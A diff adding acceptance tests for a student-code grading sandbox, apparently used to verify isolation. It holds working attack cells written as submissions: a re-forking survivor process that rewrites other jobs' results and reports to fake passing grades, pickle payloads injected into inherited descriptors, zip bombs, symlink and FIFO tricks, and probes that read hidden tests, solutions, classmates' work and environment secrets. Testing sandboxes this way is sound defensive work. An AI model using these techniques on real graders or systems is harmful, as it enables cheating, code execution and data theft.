@@ -1,0 +1,1376 @@
+"""Acceptance tests for the sandbox that runs student code: what escapes it, end to end.
+
+Every attack is a submission (the release notebook with extra cells) graded the way a TA
+or Gradescope grades: `coursekit grade` (as root, and as an ordinary user), `otter run`
+with the built zip, `nbgrader autograde`. The outcome of an attack is encoded in what the
+grader writes, never in how the sandbox is built:
+
+- a *probe* cell sets `LEAKED = True` when it could read, see or reach something it must
+  not; the submission's `lookup` returns the right answer only `if LEAKED`, otherwise it
+  raises NotImplementedError. A probe that is kept out therefore scores lookup 0 (and
+  retrieve/forward/training full marks, 7 of 12); a leak shows up as lookup 5.
+  `TestProbes` runs every probe on the host first, where each must detect its leak, so a
+  broken probe cannot pass for a working sandbox;
+- attacks on the grader itself (hostile files where it reads, inherited descriptors,
+  processes left behind) must leave host files unchanged, leave no process alive, and
+  leave every row of grades.csv in place with the scores of the code without the attack:
+  the untouched stub 0, the reference solution 12.
+
+Student code here may kill every process it can signal: run this file inside a PID
+namespace (`unshare --pid --fork --mount-proc .venv/bin/python -m pytest ...`) as root.
+The grade runs are batched (one `coursekit grade` per group of attacks, module-scoped
+fixtures), so the whole file takes a few minutes.
+"""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import json
+import os
+import pwd
+import shutil
+import signal
+import socket
+import stat
+import subprocess
+import sys
+import textwrap
+import threading
+import time
+import uuid
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import nbformat
+import pytest
+
+import course_config as cfg
+from tests.corpus import REF_FORWARD, REF_LOOKUP, REF_RETRIEVE, Spec, make_notebook
+
+REPO = cfg.REPO_ROOT
+A = cfg.ASSIGNMENT
+RELEASE = cfg.RELEASE_DIR / f"{A}.ipynb"
+QUESTIONS = list(cfg.AUTOGRADED_POINTS)
+FULL = tuple(float(p) for p in cfg.AUTOGRADED_POINTS.values())  # (5, 2, 3, 2)
+ZERO = (0.0,) * len(FULL)
+NOT_LEAKED = (0.0,) + FULL[1:]  # a kept-out probe: lookup raises, the rest is the reference
+WRONG_LOOKUP = "return Q.float() @ K.float().transpose(-2, -1)"  # no softmax: lookup 3 of 5
+CHECKS_PY = REPO / "coursekit" / "checks.py"
+ENV_TOKEN = ("COURSEKIT_TEST_TOKEN", "s3cret")
+STUDENT_USER = "ckstudent_ta"
+GRADE_TIMEOUT_S = 180  # a batch that hangs (today: a FIFO in the job folder) fails, never blocks
+_SPAWNED: set[int] = set()  # our own subprocesses (the orphan reaper never touches them)
+
+
+def _token() -> str:
+    return uuid.uuid4().hex[:12]
+
+
+# --- running commands ------------------------------------------------------------------
+
+@dataclass
+class Run:
+    """One command: exit code, output, and for grade runs the rows of grades.csv."""
+
+    rc: int | None
+    stdout: str
+    stderr: str
+    timed_out: bool
+    seconds: float
+    out: Path | None = None
+    rows: dict[str, dict] = field(default_factory=dict)
+
+    def why(self) -> str:
+        state = "TIMED OUT" if self.timed_out else f"exit {self.rc}"
+        return f"[{state} after {self.seconds:.0f} s] {(self.stdout + self.stderr)[-1500:]}"
+
+    def scores(self, student: str) -> tuple[float, ...]:
+        assert student in self.rows, f"no row for {student!r} in grades.csv {self.why()}"
+        return tuple(float(self.rows[student][q]) for q in QUESTIONS)
+
+
+def run_cmd(cmd: list[str], *, cwd: Path = REPO, env: dict | None = None,
+            timeout: float = GRADE_TIMEOUT_S) -> Run:
+    """Run `cmd` in its own session; on timeout kill that whole session (it hung)."""
+    start = time.monotonic()
+    proc = subprocess.Popen(cmd, cwd=cwd, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                            text=True, start_new_session=True)
+    _SPAWNED.add(proc.pid)
+    timed_out = False
+    try:
+        out, err = proc.communicate(timeout=timeout)
+    except subprocess.TimeoutExpired:
+        timed_out = True
+        try:
+            os.killpg(proc.pid, signal.SIGKILL)
+        except OSError:
+            pass
+        out, err = proc.communicate()
+    return Run(proc.returncode, out or "", err or "", timed_out, time.monotonic() - start)
+
+
+def grade(subs: Path | list[Path], out: Path, *, jobs: int = 2, env_extra: dict | None = None,
+          args: tuple[str, ...] = (), prefix: tuple[str, ...] = (),
+          timeout: float = GRADE_TIMEOUT_S) -> Run:
+    """`coursekit grade SUBS... --out OUT --jobs N` (what a TA types), rows from grades.csv.
+    Folders are graded in the order given (each one's notebooks in name order)."""
+    env = {**os.environ, **(env_extra or {})}
+    folders = [str(p) for p in (subs if isinstance(subs, list) else [subs])]
+    cmd = [*prefix, sys.executable, "-m", "coursekit", "grade", *folders, "--out", str(out),
+           "--jobs", str(jobs), "--quiet", *args]
+    run = run_cmd(cmd, env=env, timeout=timeout)
+    run.out = out
+    run.rows = read_rows(out)
+    return run
+
+
+def read_rows(out: Path) -> dict[str, dict]:
+    path = out / "grades.csv"
+    if not path.is_file():
+        return {}
+    with path.open() as f:
+        return {r["student"]: r for r in csv.DictReader(f)}
+
+
+def write_nb(folder: Path, name: str, spec: Spec, release: Path = RELEASE) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / f"{name}.ipynb"
+    nbformat.write(make_notebook(release, spec), path)
+    return path
+
+
+def _sha(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def _marked_pids(marker: str) -> list[int]:
+    """Live processes whose command line carries `marker` (zombies have none)."""
+    found = []
+    needle = marker.encode()
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit() or int(entry) == os.getpid():
+            continue
+        try:
+            with open(f"/proc/{entry}/cmdline", "rb") as f:
+                if needle in f.read():
+                    found.append(int(entry))
+        except OSError:
+            pass
+    return found
+
+
+def survivor_evidence(marker: str, token: str) -> list[str]:
+    """Signs that an attack's re-forking process is still running: its command line seen in
+    any of several scans (one scan can miss a process that changes pid every millisecond),
+    or its heartbeat file in the host's /tmp still being touched."""
+    beat = Path("/tmp") / f"ck-alive-{token}"
+    before = beat.stat().st_mtime_ns if beat.exists() else None
+    pids: set[int] = set()
+    for _ in range(12):
+        pids.update(_marked_pids(marker))
+        time.sleep(0.05)
+    after = beat.stat().st_mtime_ns if beat.exists() else None
+    evidence = [f"process {pid} runs the survivor" for pid in sorted(pids)]
+    if after is not None and after != before:
+        evidence.append(f"{beat} is still being touched")
+    return evidence
+
+
+def end_survivors(marker: str, token: str) -> None:
+    """End the attack's processes we started: ask (a stop file, for a survivor that sees the
+    host's /tmp), then kill every pid that carries the marker until none is left."""
+    stop = Path("/tmp") / f"ck-stop-{token}"
+    stop.write_text("stop")
+    deadline = time.time() + 1.5
+    while time.time() < deadline and _marked_pids(marker):
+        time.sleep(0.1)
+    for _ in range(100):
+        pids = _marked_pids(marker)
+        if not pids:
+            break
+        for pid in pids:
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except OSError:
+                pass
+        time.sleep(0.02)
+    for path in [stop, Path("/tmp") / f"ck-alive-{token}", *Path("/tmp").glob(f"ck-flag-{token}*")]:
+        path.unlink(missing_ok=True)
+    shutil.rmtree(f"/tmp/ck-payload-{token}", ignore_errors=True)
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _orphan_reaper():
+    """Inside `unshare --pid --fork` pytest is PID 1, so processes orphaned by the attacks
+    (and by the sandbox) become our children; reap the unprivileged ones, never our own
+    subprocesses, so that zombies do not pile up against the sandbox's process limit."""
+    if os.getpid() != 1:
+        yield
+        return
+    stop = threading.Event()
+
+    def reap() -> None:
+        while not stop.wait(0.05):
+            for entry in os.listdir("/proc"):
+                if not entry.isdigit() or int(entry) in _SPAWNED:
+                    continue
+                try:
+                    with open(f"/proc/{entry}/stat") as f:
+                        fields = f.read().rsplit(")", 1)[1].split()
+                    owner = os.stat(f"/proc/{entry}").st_uid
+                except (OSError, IndexError):
+                    continue
+                if fields[0] == "Z" and fields[1] == "1" and owner != 0:
+                    try:
+                        os.waitpid(int(entry), os.WNOHANG)
+                    except ChildProcessError:
+                        pass
+
+    thread = threading.Thread(target=reap, daemon=True)
+    thread.start()
+    yield
+    stop.set()
+    thread.join()
+
+
+# --- the attacks -----------------------------------------------------------------------
+
+# lookup is right only when the probe leaked: a kept-out probe scores lookup 0.
+GATED_LOOKUP = "if not LEAKED:\n    raise NotImplementedError()\n" + REF_LOOKUP.strip("\n")
+
+
+def probe_cell(body: str) -> str:
+    """A cell that runs `body` (a function body returning True on a leak) into LEAKED."""
+    body = textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
+    return (f"def _ck_probe():\n{body}\n\n"
+            "try:\n    LEAKED = bool(_ck_probe())\nexcept BaseException:\n    LEAKED = False\n")
+
+
+def probe_spec(body: str) -> Spec:
+    return Spec(GATED_LOOKUP, REF_RETRIEVE, REF_FORWARD, after={"lookup": probe_cell(body)})
+
+
+def ref(**extra) -> Spec:
+    return Spec(REF_LOOKUP, REF_RETRIEVE, REF_FORWARD, **extra)
+
+
+def read_probe(path: Path) -> str:
+    """Reads a host file; leaked when it got the real bytes."""
+    return f"""
+import hashlib
+with open({str(path)!r}, "rb") as f:
+    return hashlib.sha256(f.read()).hexdigest() == {_sha(path)!r}
+"""
+
+
+def cache_probe(cache: Path) -> str:
+    """Lists the bundle cache (its name carries the data seed) or reads any file in it."""
+    files = [(str(p), _sha(p)) for p in sorted(cache.rglob("*"))
+             if p.is_file() and p.stat().st_size < 32 << 20][:20]
+    return f"""
+import hashlib, os
+try:
+    if any(n.startswith("bundle-") for n in os.listdir({str(cache)!r})):
+        return True
+except OSError:
+    pass
+for path, digest in {files!r}:
+    try:
+        with open(path, "rb") as f:
+            if hashlib.sha256(f.read()).hexdigest() == digest:
+                return True
+    except OSError:
+        pass
+return False
+"""
+
+
+# Another process's command line naming a notebook (the decoy's, a grader's, otter's).
+PROC_CMDLINE_PROBE = """
+import os
+for pid in os.listdir("/proc"):
+    if not pid.isdigit() or int(pid) == os.getpid():
+        continue
+    try:
+        with open("/proc/%s/cmdline" % pid, "rb") as f:
+            if b".ipynb" in f.read():
+                return True
+    except OSError:
+        pass
+return False
+"""
+# The hidden checks loaded in (or importable by) the student's process.
+CHECKS_LOADED_PROBE = """
+import importlib, sys
+if "coursekit.checks" in sys.modules or "attention_checks" in sys.modules:
+    return True
+for module in list(sys.modules.values()):
+    path = str(getattr(module, "__file__", None) or "")
+    if path.endswith(("coursekit/checks.py", "attention_checks.py")):
+        return True
+for name in ("coursekit.checks", "attention_checks"):
+    try:
+        module = importlib.import_module(name)
+    except BaseException:
+        continue
+    if hasattr(module, "verdict") or hasattr(module, "probes"):
+        return True
+return False
+"""
+# The grader's environment (os.environ, or the environ of any process it can read).
+ENV_PROBE = f"""
+import glob, os
+if os.environ.get({ENV_TOKEN[0]!r}) == {ENV_TOKEN[1]!r}:
+    return True
+for path in ["/proc/self/environ"] + glob.glob("/proc/[0-9]*/environ"):
+    try:
+        with open(path, "rb") as f:
+            if {(ENV_TOKEN[0] + "=" + ENV_TOKEN[1]).encode()!r} in f.read():
+                return True
+    except OSError:
+        pass
+return False
+"""
+
+
+def network_probe(port: int) -> str:
+    """Connects to the test's listener on the loopback and sends 2 KB."""
+    return f"""
+import socket
+s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
+s.sendall(b"L" * 2048)
+s.close()
+return True
+"""
+
+
+def flag_probe(token: str) -> str:
+    """Finds the flag a survivor leaves where it could reach the hidden checks."""
+    return f"""
+import glob, os
+name = "ck-flag-" + {token!r}
+for pattern in ["/tmp/" + name, name, "../" + name, os.path.expanduser("~/" + name),
+                "/tmp/*/" + name, "/tmp/*/*/" + name, "/tmp/*/*/*/" + name]:
+    if glob.glob(pattern):
+        return True
+return False
+"""
+
+
+def snoop_probe(extra_roots: list[str]) -> str:
+    """Looks for the autograder's files: around the working folder, /autograder, and a
+    bounded walk of the filesystem for them by name."""
+    return f"""
+import glob, os, sys, time
+if "attention_checks" in sys.modules or "coursekit.checks" in sys.modules:
+    return True
+MARKERS = (b"def verdict", b"run_case", b"TrustedGrading", b"BEGIN SOLUTION", b"BEGIN TESTS",
+           b"BEGIN HIDDEN TESTS", b"Model answer", b"hidden: true")
+NAMES = {{"attention_checks.py", "attention_data.npz", "attention_config.json", "otter_config.json",
+          "run_autograder"}}
+own = os.path.realpath(os.getcwd())
+
+def content_hit(path):
+    try:
+        if os.path.islink(path) or not os.path.isfile(path):
+            return False
+        with open(path, "rb") as f:
+            data = f.read(4 << 20)
+    except OSError:
+        return False
+    return os.path.basename(path) in NAMES or any(m in data for m in MARKERS)
+
+for pattern in ["../*", "../source/*", "../source/files/*", "../submission/*", "../submission/tests/*",
+                "../tests/*", "/autograder/*", "/autograder/source/*", "/autograder/source/files/*",
+                "/autograder/submission/*", "/autograder/submission/tests/*"]:
+    for path in glob.glob(pattern):
+        if not os.path.realpath(path).startswith(own) and content_hit(path):
+            return True
+
+def name_hit(folder, name):
+    if name in NAMES or (name.startswith("bundle-") and name.endswith(".npz")):
+        return True
+    if name.endswith("-autograder.zip"):
+        return True
+    if name == "checks.py" and os.path.basename(folder) == "coursekit":
+        return True
+    return name.startswith({A!r}) and name.endswith(".ipynb")
+
+deadline = time.monotonic() + 25
+seen = set()
+for root in {extra_roots!r} + ["/autograder", "/tmp", "/work", "/home", "/root", "/srv", "/opt", "/"]:
+    for folder, dirs, files in os.walk(root):
+        real = os.path.realpath(folder)
+        if real in seen or real.startswith(own) or real.startswith(("/proc", "/sys", "/dev")):
+            dirs[:] = []
+            continue
+        seen.add(real)
+        if time.monotonic() > deadline:
+            return False
+        for name in files:
+            path = os.path.join(folder, name)
+            if name_hit(folder, name) and (not name.endswith(".ipynb") or content_hit(path)):
+                try:
+                    with open(path, "rb") as f:
+                        f.read(1)
+                    return True
+                except OSError:
+                    pass
+return False
+"""
+
+
+# A process that outlives its job: double fork, new session, exec a small Python that
+# re-forks (a new pid every few ms) for LIFETIME seconds and meanwhile tampers with what
+# the grader reads: other jobs' job.json / outputs / events (mode "jobs", only jobs of
+# this batch: their job.json carries the batch token), or a folder of stored reports
+# (mode = that folder). In mode "jobs" it also leaves a flag wherever it can write if
+# it could read the hidden checks.
+SURVIVOR_SRC = r'''
+import glob, json, os, sys, time
+marker, mode, token, payload, checks, lifetime = sys.argv[1:7]
+deadline = time.time() + float(lifetime)
+flagged = set()
+try:  # not dumpable: /proc/<pid> then belongs to root, not to this uid
+    import ctypes
+    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
+except Exception:
+    pass
+
+def write(path, data):
+    tmp = path + ".ck-tmp"
+    with open(tmp, "wb") as f:
+        f.write(data)
+    os.rename(tmp, path)
+
+def checks_readable():
+    try:
+        with open(checks, "rb") as f:
+            return b"def " in f.read()
+    except OSError:
+        return False
+
+def job_dirs():
+    found = set(glob.glob("/tmp/coursekit-job-*/job"))
+    found.update(os.path.dirname(p) for p in glob.glob("/tmp/*/job.json"))
+    return found
+
+def tamper_job(d):
+    try:
+        with open(os.path.join(d, "job.json")) as f:
+            text = f.read()
+    except (OSError, ValueError):
+        return
+    if token not in text or marker in text:
+        return
+    try:
+        names = os.listdir(payload)
+    except OSError:
+        names = []
+    for name in names:
+        dst = os.path.join(d, name)
+        if name.startswith("out-") and not os.path.exists(dst):
+            try:
+                with open(os.path.join(payload, name), "rb") as f:
+                    write(dst, f.read())
+            except OSError:
+                pass
+    if "ck-rewritten" not in text and "cells.json" in names:
+        try:
+            job = json.loads(text)
+            with open(os.path.join(payload, "cells.json")) as f:
+                job["cells"] = json.load(f) + ["# ck-rewritten " + token]
+            write(os.path.join(d, "job.json"), json.dumps(job).encode())
+        except (OSError, ValueError, TypeError):
+            pass
+    events = os.path.join(d, "events.jsonl")
+    try:
+        with open(events, errors="replace") as f:
+            lines = f.readlines()
+    except OSError:
+        return
+    if any('"error"' in line for line in lines):
+        try:
+            write(events, "".join(l for l in lines if '"error"' not in l).encode())
+        except OSError:
+            pass
+
+def tamper_reports(folder):
+    for path in glob.glob(os.path.join(folder, "*.json")):
+        try:
+            with open(path) as f:
+                report = json.load(f)
+            cases = report.get("cases", [])
+            if report.get("status") == "ok" and all(c.get("passed") for c in cases):
+                continue
+            for c in cases:
+                c["passed"], c["message"] = True, ""
+            report["status"], report["message"] = "ok", ""
+            write(path, json.dumps(report).encode())
+        except (OSError, ValueError, AttributeError, TypeError):
+            pass
+
+def hop():  # a new pid: the parent exits, the child goes on
+    try:
+        if os.fork() > 0:
+            os._exit(0)
+    except OSError:
+        time.sleep(0.01)
+
+stop, beat = "/tmp/ck-stop-" + token, "/tmp/ck-alive-" + token
+dirs, scanned, beaten = set(), 0.0, 0.0
+while time.time() < deadline and not os.path.exists(stop):
+    hop()
+    now = time.time()
+    if now - beaten > 0.05:  # a heartbeat the test can see if /tmp is the host's
+        beaten = now
+        try:
+            with open(beat, "a"):
+                os.utime(beat)
+        except OSError:
+            pass
+    if mode != "jobs":
+        if now - scanned > 0.1:
+            scanned = now
+            tamper_reports(mode)
+    else:
+        if now - scanned > 0.05:
+            scanned = now
+            dirs = job_dirs()
+            if checks_readable():
+                for d in ["/tmp", os.path.expanduser("~"), os.getcwd(), *dirs]:
+                    if d not in flagged:
+                        flagged.add(d)
+                        try:
+                            write(os.path.join(d, "ck-flag-" + token), b"checks.py was readable")
+                        except OSError:
+                            pass
+        for d in dirs:
+            hop()
+            tamper_job(d)
+    time.sleep(0.002)
+'''
+
+
+def survivor_cell(marker: str, mode: str, token: str, lifetime: int = 60) -> str:
+    """The attacker's cell: precompute right answers (mode "jobs"), then leave the survivor."""
+    return f"""
+import json, os, sys, time
+MARKER, MODE, TOKEN = {marker!r}, {mode!r}, {token!r}
+payload = "/tmp/ck-payload-" + TOKEN
+try:
+    os.makedirs(payload, exist_ok=True)
+except OSError:
+    import tempfile
+    payload = tempfile.mkdtemp()
+if MODE == "jobs":
+    try:  # right outputs for every call, made here with this notebook's own definitions
+        import numpy as np, torch
+        from coursekit import calls as _calls
+        with np.load("inputs.npz", allow_pickle=False) as _d:
+            _p = {{k: torch.from_numpy(_d[k].copy()) for k in _d.files}}
+        with open("job.json") as _f:
+            _job = json.load(_f)
+        _defs = {{n: globals().get(n) for n in ("lookup", "retrieve", "AttentionTest")}}
+        for _call in _calls.CALLS:
+            try:
+                np.savez(os.path.join(payload, "out-%s.npz" % _call.id),
+                         **_calls.evaluate(_call, _defs, _p, _job["training"]))
+            except Exception:
+                pass
+        with open(os.path.join(payload, "cells.json"), "w") as _f:
+            json.dump([c for c in _job["cells"] if MARKER not in c], _f)
+    except Exception:
+        pass
+_pid = os.fork()
+if _pid == 0:
+    try:
+        os.setsid()
+        if os.fork() == 0:
+            _fd = os.open(os.devnull, os.O_RDWR)
+            for _i in (0, 1, 2):
+                os.dup2(_fd, _i)
+            os.execv(sys.executable, [sys.executable, "-S", "-c", {SURVIVOR_SRC!r}, MARKER, MODE,
+                                      TOKEN, payload, {str(CHECKS_PY)!r}, "{lifetime}"])
+    finally:
+        os._exit(0)
+os.waitpid(_pid, 0)
+"""
+
+
+def batch_tag(token: str) -> Spec:
+    """A comment cell that marks a submission as this batch's (survivors only touch those)."""
+    return {"lookup": f"# batch {token}"}
+
+
+def fd_cell(marker_path: Path | None) -> str:
+    """Writes into every inherited descriptor but 0/1/2: a pickle frame whose loading
+    creates `marker_path` (multiprocessing's length-prefixed format), or junk."""
+    if marker_path is not None:
+        make = f"""
+import io, pickle, struct
+class _Marker:
+    def __reduce__(self):  # io.open: IPython wraps the builtin open
+        return (io.open, ({str(marker_path)!r}, "w"))
+_data = pickle.dumps(_Marker())
+PAYLOAD = struct.pack("!i", len(_data)) + _data
+"""
+    else:
+        make = 'PAYLOAD = b"\\x7f\\xff\\xff\\xff" + b"junk" * 1024 + bytes(range(256)) * 4\n'
+    return make + """
+import os
+_here = os.path.realpath(".")
+for _fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
+    if _fd <= 2:
+        continue
+    try:
+        _target = os.readlink("/proc/self/fd/%d" % _fd)
+    except OSError:
+        continue
+    if _target.startswith(_here):  # the notebook's own files (IPython's history)
+        continue
+    try:
+        os.write(_fd, PAYLOAD)
+    except OSError:
+        pass
+"""
+
+
+def symlink_cell(links: dict[str, str], crash: bool = True) -> str:
+    """Replaces files of the working folder with symlinks, then dies (the job restarts)."""
+    return f"""
+import os
+for _name, _target in {links!r}.items():
+    try:
+        os.unlink(_name)
+    except OSError:
+        pass
+    try:
+        os.symlink(_target, _name)
+    except OSError:
+        pass
+""" + ("os._exit(3)\n" if crash else "")
+
+
+FIFO_CELL = """
+import os
+try:
+    os.unlink("events.jsonl")
+except OSError:
+    pass
+os.mkfifo("events.jsonl")
+os._exit(3)
+"""
+HOSTILE_EVENTS_CELL = r"""
+lines = [b"\xff\xfe\x80 not utf-8 \xc3\x28\n",
+         b"[" * 100000 + b"]" * 100000 + b"\n",
+         b'{"call": [1]}\n', b'{"cell": [1]}\n', b'{"call": {"x": 1}, "error": ["y"]}\n',
+         b'{"call": "lookup_soft_single", "error": "raised ' + b"A" * 100000 + b'"}\n',
+         b'{"cell": "done"}\n', b'{"call": "done"}\n', b"\x00" * 1000 + b"\n", b"{" * 5000 + b"\n"]
+with open("events.jsonl", "ab") as f:
+    f.write(b"".join(lines))
+"""
+
+
+def bomb_cell(marker_path: Path) -> str:
+    """Result files that expand to 256 MB, a pickled array whose loading creates
+    `marker_path`, and a patched event writer that hides the stubs' failures."""
+    return f"""
+import io, os, sys
+import numpy as np
+_buf = io.BytesIO()
+np.savez_compressed(_buf, weights=np.zeros(2**28, np.uint8), output=np.zeros(2**28, np.uint8))
+for _cid in ("lookup_soft_single", "retrieve_single", "forward", "training"):
+    with open("out-%s.npz" % _cid, "wb") as _f:
+        _f.write(_buf.getvalue())
+class _Marker:
+    def __reduce__(self):  # io.open: IPython wraps the builtin open
+        return (io.open, ({str(marker_path)!r}, "w"))
+np.savez("out-lookup_hard_single.npz", weights=np.array([_Marker()], dtype=object))
+_m = sys.modules.get("coursekit.student_side")
+if _m is not None and hasattr(_m, "_event"):
+    _orig = _m._event
+    def _quiet(path, **fields):
+        if "error" not in fields:
+            _orig(path, **fields)
+    _m._event = _quiet
+"""
+
+
+KILL_PARENT = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"
+
+
+def _call_ids() -> list[str]:
+    try:
+        from coursekit.checks import CALLS_BY_ID
+
+        return list(CALLS_BY_ID)
+    except Exception:  # noqa: BLE001 - the attack only needs plausible names
+        return ["lookup_soft_single", "lookup_hard_single", "retrieve_single", "forward", "training"]
+
+
+class Listener:
+    """A TCP listener on the loopback that records every byte it is sent."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(16)
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.received = bytearray()
+        self.connections = 0
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            self.connections += 1
+            conn.settimeout(3)
+            try:
+                while chunk := conn.recv(65536):
+                    self.received += chunk
+            except OSError:
+                pass
+            conn.close()
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join()
+        self.sock.close()
+
+
+def _file_state(path: Path) -> tuple:
+    info = os.lstat(path)
+    content = path.read_bytes() if stat.S_ISREG(info.st_mode) else b""
+    return info.st_uid, info.st_gid, stat.S_IMODE(info.st_mode), content
+
+
+# --- the batches -----------------------------------------------------------------------
+
+@dataclass
+class Batch:
+    run: Run
+    token: str
+    paths: dict[str, Path] = field(default_factory=dict)
+    extra: dict = field(default_factory=dict)
+
+
+@pytest.fixture(scope="module")
+def robustness(tmp_path_factory) -> Batch:
+    """Classes 1-3 in one `coursekit grade` (--jobs 2): inherited descriptors, job-folder
+    tricks and hostile result files, beside the reference and the stub."""
+    tmp = tmp_path_factory.mktemp("robustness")
+    token = _token()
+    victims = {}
+    for name in ("job", "log", "events"):
+        victims[name] = tmp / f"victim-{name}"
+        victims[name].write_text(f"victim {name} {token}\n")
+        victims[name].chmod(0o644)
+    dev_zero = _file_state(Path("/dev/zero"))
+    subs = tmp / "subs"
+    fd_marker, npz_marker = tmp / "PWNED-fd", tmp / "PWNED-npz"
+    # Graded in this order (two at a time), so that what only a hang or a crash of the whole
+    # batch could hide (the host files behind symlinks, the markers) is graded first.
+    groups = {
+        "1-files": {
+            "reference": ref(),
+            "stub": Spec(),
+            # job.json and the log become symlinks to root's files, then a crash restarts the job
+            "symlink_job_and_log": ref(after={"lookup": symlink_cell(
+                {"job.json": str(victims["job"]), "stdout.txt": str(victims["log"])})}),
+            # every result file becomes a symlink to /dev/zero, then a crash
+            "symlink_outputs_dev_zero": ref(after={"lookup": symlink_cell(
+                {f"out-{cid}.npz": "/dev/zero" for cid in _call_ids()})}),
+            # the progress log becomes a symlink to a root file, then a crash
+            "symlink_events": ref(after={"lookup": symlink_cell({"events.jsonl": str(victims["events"])})}),
+            # 256 MB zip bombs and a pickled array as results of stubs whose failures are hidden
+            "zip_bombs": Spec(after={"lookup": bomb_cell(npz_marker)}),
+        },
+        "2-fds": {
+            # pickle frames into every inherited descriptor (a parent that unpickles them runs code)
+            "fd_pickle": ref(after={"lookup": fd_cell(fd_marker)}),
+        },
+        "3-hostile": {
+            # invalid UTF-8, 100000-deep JSON, wrong types, a premature "done" in the progress log
+            "hostile_events": Spec(None, REF_RETRIEVE, REF_FORWARD, after={"lookup": HOSTILE_EVENTS_CELL}),
+            # junk (a 2 GB length header, binary noise) into every inherited descriptor
+            "fd_junk": ref(after={"lookup": fd_cell(None)}),
+            # the progress log becomes a FIFO (a reader blocks forever), then a crash
+            "fifo_events": ref(after={"lookup": FIFO_CELL}),
+        },
+    }
+    for group, specs in groups.items():
+        for name, spec in specs.items():
+            write_nb(subs / group, name, spec)
+    run = grade([subs / group for group in groups], tmp / "out")
+    after_zero = _file_state(Path("/dev/zero"))
+    if after_zero[:3] != dev_zero[:3]:  # put the machine back (today's grader chowns it)
+        os.chown("/dev/zero", dev_zero[0], dev_zero[1])
+        os.chmod("/dev/zero", dev_zero[2])
+    return Batch(run, token, paths={"fd_marker": fd_marker, "npz_marker": npz_marker, **victims},
+                 extra={"victim_state": {k: (0, 0, 0o644, f"victim {k} {token}\n".encode())
+                                         for k in victims},
+                        "dev_zero": (dev_zero, after_zero)})
+
+
+@pytest.fixture(scope="module")
+def listener():
+    lst = Listener()
+    yield lst
+    lst.close()
+
+
+@pytest.fixture(scope="module")
+def decoy():
+    """A host process whose command line names a classmate's notebook."""
+    token = _token()
+    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)",
+                             f"/tmp/ck-decoy-{token}/classmate.ipynb"])
+    _SPAWNED.add(proc.pid)
+    yield proc
+    proc.kill()
+    proc.wait()
+
+
+def read_probes(classmate: Path) -> dict[str, str]:
+    """Class 6: what the student's process must not read or see (name -> probe body)."""
+    return {
+        "read_checks_py": read_probe(CHECKS_PY),  # reads the repository's hidden checks
+        "read_source_notebook": read_probe(cfg.SOURCE_NOTEBOOK),  # reads the master (tests, solutions)
+        "read_solutions_notebook": read_probe(cfg.SOLUTIONS_DIR / f"{A}.ipynb"),  # reads the solutions
+        "read_classmate_submission": read_probe(classmate),  # reads another submission of the batch
+        "read_bundle_cache": cache_probe(REPO / ".cache"),  # lists/reads the data bundle cache
+        "proc_cmdline": PROC_CMDLINE_PROBE,  # sees another process's command line naming a notebook
+        "checks_module_loaded": CHECKS_LOADED_PROBE,  # finds the hidden checks in sys.modules / importable
+    }
+
+
+@pytest.fixture(scope="module")
+def confidentiality(tmp_path_factory, listener, decoy) -> Batch:
+    """Classes 5-8 (and 12's isolation column) in one `coursekit grade` (--jobs 2), with
+    COURSEKIT_TEST_TOKEN in the grader's environment. The submissions lie in a folder every
+    user may read (as a TA's folder often is), so reading a classmate's is up to the sandbox."""
+    token = _token()
+    base = Path(f"/tmp/ck-iso-{token}")
+    subs = base / "subs"
+    subs.mkdir(parents=True)
+    base.chmod(0o755)
+    subs.chmod(0o755)
+    classmate = write_nb(subs, "stub", Spec())
+    leftover = f"ck-leftover-{uuid.uuid4().hex}"
+    specs = {name: probe_spec(body) for name, body in read_probes(classmate).items()}
+    specs.update({
+        # sees the grader's environment variable
+        "environment": probe_spec(ENV_PROBE),
+        # connects to a listener on the host's loopback and sends 2 KB
+        "network": probe_spec(network_probe(listener.port)),
+        # leaves a file in /tmp and in its working folder
+        "tmp_leftover": ref(after={"lookup": f"""
+import os
+for _path in ("/tmp/{leftover}", "{leftover}"):
+    with open(_path, "w") as _f:
+        _f.write("left behind")
+"""}),
+        "reference": ref(),
+    })
+    for name, spec in specs.items():
+        write_nb(subs, name, spec)
+    for path in subs.iterdir():
+        path.chmod(0o644)
+    out = tmp_path_factory.mktemp("confidentiality") / "out"
+    run = grade(subs, out, env_extra=dict([ENV_TOKEN]))
+    yield Batch(run, token, paths={"classmate": classmate, "leftover": Path("/tmp") / leftover},
+                extra={"listener": listener})
+    shutil.rmtree(base, ignore_errors=True)
+    Path("/tmp", leftover).unlink(missing_ok=True)
+
+
+def survivor_batch(tmp: Path, env_extra: dict | None = None) -> Batch:
+    """Class 4 (and 12's fallback): a survivor graded first, then a probe that looks for what
+    it left, a reader of the hidden checks, the stub and the reference (--jobs 1, in this
+    order), then the same command again."""
+    token = _token()
+    marker = f"ck-survivor-{token}"
+    subs = tmp / "subs"
+    tag = batch_tag(token)
+    # leaves a re-forking process that tampers with later jobs of this batch
+    write_nb(subs, "a_survivor", ref(after={"forward": survivor_cell(marker, "jobs", token)}))
+    # looks for the flag the survivor leaves where it could read checks.py
+    write_nb(subs, "b_collector", Spec(GATED_LOOKUP, REF_RETRIEVE, REF_FORWARD,
+                                       after={"lookup": probe_cell(flag_probe(token)),
